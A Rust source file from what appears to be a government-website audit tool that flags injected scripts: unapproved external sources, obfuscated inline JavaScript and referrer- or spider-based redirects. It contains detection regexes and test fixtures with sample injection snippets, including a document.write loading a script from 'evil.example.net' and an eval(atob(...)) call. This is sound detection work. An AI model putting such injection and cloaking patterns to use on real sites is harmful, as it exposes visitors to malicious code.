//! `suspicious_script` (挂马): injected or malicious-looking scripts of one page.
//! - `unapproved_source`: a `<script src>` (or a script an inline script writes with
//!   `document.write`) on another host that is neither government, nor a well-known
//!   government widget host, nor approved in the register; `url` is the script's `src`.
//! - `obfuscated`: an inline script packed with Dean Edwards' packer
//!   (`eval(function(p,a,c,k,e,d)`), long runs of `\xNN`/`\u00NN` escapes, long
//!   `String.fromCharCode` chains, or `eval`/`Function` fed directly by a decoder
//!   (`atob`, `unescape`, `fromCharCode`); `url` is the page.
//! - `redirect`: an inline script that changes `location` depending on `document.referrer`
//!   or `navigator.userAgent` and names a search engine or spider, or sends the visitor to
//!   a non-government host; `url` is the page. A mobile redirect to the site's own mobile
//!   pages is ordinary and does not count.
//!
//! The contents of script files are not fetched; what they do shows in cloaking and in the
//! baseline's script-source inventory.

use super::page::{Page, PageContext};
use crate::approval::Coverage;
use crate::finding::{Finding, Kind, Severity, cap_chars};
use regex::Regex;
use scraper::Selector;
use std::collections::BTreeSet;
use std::sync::OnceLock;
use url::Url;

/// Hosts of the standard government-site widgets and the analytics nearly every government
/// site embeds (党政机关网站标识 dcs.conac.cn, 政府网站找错 on *.gov.cn, Baidu statistics and
/// link push, CNZZ). Scripts from them are not *suspicious*; the link rules still ask for
/// their approval like any other external resource.
const WIDGET_HOSTS: &[&str] = &["*.conac.cn", "*.gov.cn", "hm.baidu.com", "zz.bdstatic.com", "*.cnzz.com"];

/// Runs the check on one page.
pub fn check(page: &Page<'_>, ctx: &PageContext) -> Vec<Finding> {
    let doc = page.doc;
    let here = doc.url.as_str();
    let mut out = Vec::new();
    let mut seen = BTreeSet::new();
    let src_sel = Selector::parse("script[src]").expect("static selector");
    let mut sources: Vec<(Url, String)> = doc
        .dom()
        .select(&src_sel)
        .filter_map(|s| {
            let src = s.value().attr("src")?;
            let u = crate::urlnorm::resolve(&doc.base, src).ok()?;
            Some((u, format!("<script src=\"{}\">", cap_chars(src, 150))))
        })
        .collect();
    for html in super::hidden::written_html(doc) {
        let frag = scraper::Html::parse_fragment(&html);
        let sel = Selector::parse("script[src]").expect("static selector");
        for s in frag.select(&sel) {
            if let Some(src) = s.value().attr("src")
                && let Ok(u) = crate::urlnorm::resolve(&doc.base, src)
            {
                sources.push((u, format!("document.write('{}')", cap_chars(&html, 120))));
            }
        }
    }
    for (src, snippet) in sources {
        if !matches!(src.scheme(), "http" | "https") || ctx.scope.is_internal(&src) || !seen.insert(src.to_string()) {
            continue;
        }
        if ctx.register.is_government(&src) || WIDGET_HOSTS.iter().any(|p| crate::approval::matches(p, &src)) {
            continue;
        }
        let why = match ctx.register.coverage(&src, ctx.as_of) {
            Coverage::Approved(_) => continue,
            Coverage::Expired(_) => "审批已过期 / approval expired",
            Coverage::None => "未经审批 / not approved",
        };
        let host = src.host_str().unwrap_or("").to_string();
        out.push(
            Finding::new(
                Kind::SuspiciousScript,
                Severity::High,
                src.as_str(),
                format!("引用外部主机 {host} 的脚本，{why} / script from another host"),
            )
            .subtype("unapproved_source")
            .source(here)
            .evidence(snippet),
        );
    }
    let sel = Selector::parse("script:not([src])").expect("static selector");
    let scripts: Vec<String> = doc.dom().select(&sel).map(|s| s.text().collect()).collect();
    if let Some(why) = scripts.iter().find_map(|js| obfuscated(js)) {
        out.push(
            Finding::new(Kind::SuspiciousScript, Severity::High, here, "页面含混淆脚本 / obfuscated inline script")
                .subtype("obfuscated")
                .source(here)
                .evidence(why),
        );
    }
    if let Some(why) = scripts.iter().find_map(|js| redirect(js, ctx)) {
        out.push(
            Finding::new(
                Kind::SuspiciousScript,
                Severity::High,
                here,
                "脚本按来源或浏览器类型跳转访客 / script redirects visitors by referrer or user agent",
            )
            .subtype("redirect")
            .source(here)
            .evidence(why),
        );
    }
    out
}

fn re(cell: &'static OnceLock<Regex>, pattern: &str) -> &'static Regex {
    cell.get_or_init(|| Regex::new(pattern).expect("static regex"))
}

/// Why an inline script looks obfuscated, with an excerpt; `None` when it does not.
pub fn obfuscated(js: &str) -> Option<String> {
    static PACKER: OnceLock<Regex> = OnceLock::new();
    static HEX: OnceLock<Regex> = OnceLock::new();
    static UNI: OnceLock<Regex> = OnceLock::new();
    static FROM: OnceLock<Regex> = OnceLock::new();
    static EVAL: OnceLock<Regex> = OnceLock::new();
    static B64: OnceLock<Regex> = OnceLock::new();
    let excerpt = |at: usize| {
        let start = js[..at].char_indices().rev().nth(20).map(|(i, _)| i).unwrap_or(0);
        cap_chars(js[start..].trim(), 120)
    };
    if let Some(m) =
        re(&PACKER, r"eval\s*\(\s*function\s*\(\s*p\s*,\s*a\s*,\s*c\s*,\s*k\s*,\s*e\s*,\s*[dr]\s*\)").find(js)
    {
        return Some(format!("packer 压缩混淆: {}", excerpt(m.start())));
    }
    if let Some(m) = re(&HEX, r"(?:\\x[0-9a-fA-F]{2}){20,}").find(js) {
        return Some(format!("长串 \\x 转义 ({} 字节): {}", m.len() / 4, excerpt(m.start())));
    }
    if let Some(m) = re(&UNI, r"(?:\\u00[0-9a-fA-F]{2}){20,}").find(js) {
        return Some(format!("长串 \\u 转义 ({} 字符): {}", m.len() / 6, excerpt(m.start())));
    }
    let from = re(&FROM, r"String\.fromCharCode\s*\(([\d\s,+\-*/x]*)\)");
    let mut calls = 0;
    for c in from.captures_iter(js) {
        calls += 1;
        let args = c.get(1).map_or(0, |a| a.as_str().split(',').filter(|s| !s.trim().is_empty()).count());
        if args >= 16 || calls >= 8 {
            let at = c.get(0).map_or(0, |m| m.start());
            return Some(format!("String.fromCharCode 拼接代码: {}", excerpt(at)));
        }
    }
    if let Some(m) = re(
        &EVAL,
        r"(?:\beval|\bFunction|setTimeout|setInterval)\s*\(\s*(?:window\.)?(?:atob|unescape|decodeURIComponent|escape|String\.fromCharCode)\s*\(",
    )
    .find(js)
    {
        return Some(format!("eval 执行解码后的代码: {}", excerpt(m.start())));
    }
    if js.contains("atob")
        && let Some(m) = re(&B64, r"[A-Za-z0-9+/]{1500,}={0,2}").find(js)
    {
        return Some(format!("长段 base64 数据 ({} 字符) 经 atob 解码: {}", m.len(), excerpt(m.start())));
    }
    None
}

/// Why an inline script looks like a conditional redirect, with an excerpt.
pub fn redirect(js: &str, ctx: &PageContext) -> Option<String> {
    static SINK: OnceLock<Regex> = OnceLock::new();
    static ENGINE: OnceLock<Regex> = OnceLock::new();
    static URL: OnceLock<Regex> = OnceLock::new();
    let condition = js.contains("document.referrer") || js.contains("navigator.userAgent");
    if !condition {
        return None;
    }
    let sink = re(
        &SINK,
        r"(?:location(?:\.href)?\s*=[^=]|location\.(?:replace|assign)\s*\(|window\.navigate\s*\(|http-equiv=.?refresh)",
    )
    .find(js)?;
    let excerpt = || {
        let start =
            js.find("document.referrer").or_else(|| js.find("navigator.userAgent")).unwrap_or(0).min(sink.start());
        cap_chars(&crate::html::collapse(&js[start..]), 160)
    };
    let engines = re(
        &ENGINE,
        r"(?i)(baidu|sogou|so\.com|360spider|haosou|google|bing|yahoo|soso|youdao|sm\.cn|yisou|toutiao|bytespider|spider|crawler|\bbot\b)",
    );
    if let Some(m) = engines.find(js) {
        return Some(format!("按来源/UA“{}”跳转: {}", m.as_str(), excerpt()));
    }
    let urls = re(&URL, r#"https?://[^\s"'<>)]+"#);
    for m in urls.find_iter(js) {
        if let Ok(u) = Url::parse(m.as_str())
            && !ctx.scope.is_internal(&u)
            && !ctx.register.is_government(&u)
            && !matches!(ctx.register.coverage(&u, ctx.as_of), Coverage::Approved(_))
        {
            return Some(format!("按来源/UA 跳转到外部网站 {}: {}", u.host_str().unwrap_or(""), excerpt()));
        }
    }
    None
}

#[cfg(test)]
mod tests {
    use super::*;
    use crate::checks::hidden::test_ctx;
    use crate::html::Document;
    use crate::pageinfo;

    fn run(html: &str) -> Vec<(String, String)> {
        let d = Document::parse(html, &Url::parse("http://www.bj.gov.cn/a.html").unwrap());
        let info = pageinfo::analyze(&d, false);
        let text = d.text();
        let page = Page { doc: &d, text: &text, info: &info, is_home: false };
        check(&page, &test_ctx())
            .into_iter()
            .map(|f| (f.subtype.unwrap_or_default().to_string(), f.url.to_string()))
            .collect()
    }

    #[test]
    fn external_unapproved_scripts_fire_once_each() {
        let f = run(
            r#"<script src="http://127.0.0.6:81/tj.js"></script><script src="http://127.0.0.6:81/tj.js"></script>
            <script src="/js/common.js"></script><script src="http://dcs.conac.cn/js/33/000/0000/60429971/CA330000000604299710002.js"></script>
            <script src="https://zfwzgl.www.gov.cn/exposure/jiucuo.js"></script><script src="http://partner.example.com/w.js"></script>
            <script>document.write('<scr'+'ipt src="http://evil.example.net/x.js"></scr'+'ipt>');</script>"#,
        );
        assert_eq!(
            f,
            vec![
                ("unapproved_source".to_string(), "http://127.0.0.6:81/tj.js".to_string()),
                ("unapproved_source".to_string(), "http://evil.example.net/x.js".to_string()),
            ]
        );
    }

    #[test]
    fn obfuscation_fires_on_packer_escapes_and_charcode_chains() {
        let packer = r#"<script>eval(function(p,a,c,k,e,d){e=function(c){return c};return p}('0 1',2,2,'a|b'.split('|'),0,{}))</script>"#;
        assert_eq!(run(packer), vec![("obfuscated".into(), "http://www.bj.gov.cn/a.html".into())]);
        let hex = format!("<script>var s=\"{}\";</script>", "\\x64\\x6f".repeat(15));
        assert_eq!(run(&hex).len(), 1);
        let chars = "<script>var s=String.fromCharCode(100,111,99,117,109,101,110,116,46,119,114,105,116,101,40,39,60);</script>";
        assert_eq!(run(chars).len(), 1);
        assert_eq!(run("<script>eval(atob('ZG9jdW1lbnQ='));</script>").len(), 1);
    }

    #[test]
    fn ordinary_scripts_are_not_obfuscated() {
        let cjk = format!("<script>alert(\"{}\");</script>", "\\u8bf7\\u8f93\\u5165".repeat(10));
        let min = "<script>!function(e,t){\"object\"==typeof module?module.exports=t():e.x=t()}(this,function(){return 1});\
                   var countPage = 5; createPageHTML(5, 0, \"index\", \"html\"); var k=String.fromCharCode(13);</script>";
        let analytics = "<script>var _hmt=_hmt||[];(function(){var hm=document.createElement(\"script\");\
                         hm.src=\"https://hm.baidu.com/hm.js?abc\";var s=document.getElementsByTagName(\"script\")[0];\
                         s.parentNode.insertBefore(hm,s);})();</script>";
        for html in [cjk.as_str(), min, analytics] {
            assert!(run(html).is_empty(), "{html}");
        }
    }

    #[test]
    fn referrer_and_spider_redirects_fire_but_mobile_redirects_do_not() {
        let r = r#"<script>(function(){var r=document.referrer;if(r.indexOf("baidu")>-1){window.location.href="http://127.0.0.5:1/";}})();</script>"#;
        assert_eq!(run(r), vec![("redirect".into(), "http://www.bj.gov.cn/a.html".into())]);
        let ua = r#"<script>if(/iPhone|Android/i.test(navigator.userAgent)){location.replace("http://m.example.net/")}</script>"#;
        assert_eq!(run(ua).len(), 1, "to a non-government host");
        for ok in [
            r#"<script>if(/iPhone|Android/i.test(navigator.userAgent)){location.href="/m/index.html";}</script>"#,
            r#"<script>if(/Mobile/.test(navigator.userAgent)){location.href="http://m.bj.gov.cn/";}</script>"#,
            r#"<script>var isIE = navigator.userAgent.indexOf("MSIE") > -1; if (isIE) { alert("请升级浏览器"); }</script>"#,
            r#"<script>document.getElementById("back").onclick=function(){ if(document.referrer){history.back()} else {location.href="/"} };</script>"#,
        ] {
            assert!(run(ok).is_empty(), "{ok}");
        }
    }
}
